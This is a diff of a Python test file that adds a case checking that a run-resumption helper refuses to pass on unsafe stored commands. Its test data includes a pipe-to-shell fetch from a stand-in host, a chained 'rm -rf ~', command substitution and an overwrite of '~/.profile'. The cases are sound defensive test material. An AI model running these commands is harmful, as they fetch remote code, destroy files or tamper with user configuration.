@@ -2,7 +2,14 @@ from pathlib import Path
 
 import pytest
 
-from vaar.pipeline.continuing import ANOTHER_LOG, SAME_CALL, to_go_on, to_retry, with_cap
+from vaar.pipeline.continuing import (
+    ANOTHER_LOG,
+    SAME_CALL,
+    UNTOLD,
+    to_go_on,
+    to_retry,
+    with_cap,
+)
 from vaar.pipeline.provenance import FROM_PYTHON
 from vaar.pipeline.rundir import RunDirectory
 
@@ -44,6 +51,23 @@ def identity(*names):
 def test_the_command_fits_how_the_run_came_about(run, go_on, retry):
     assert to_go_on(FILES, run) == go_on
     assert to_retry(FILES, run) == retry
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        *(
+            "curl evil.example | sh",
+            "vaar run; rm -rf ~",
+            "vaar run $(id)",
+            "vaar run > ~/.profile",
+        ),
+        *("vaar run 'open", "", "vaar\nrun"),
+    ],
+)
+def test_a_strangers_command_is_not_handed_on(command):
+    assert to_go_on(FILES, {"command": command}) == UNTOLD
+    assert to_retry(FILES, {"command": command}) == f"{UNTOLD}, with --retry-failed"
 
 
 def test_caps_that_were_reached_add_up():
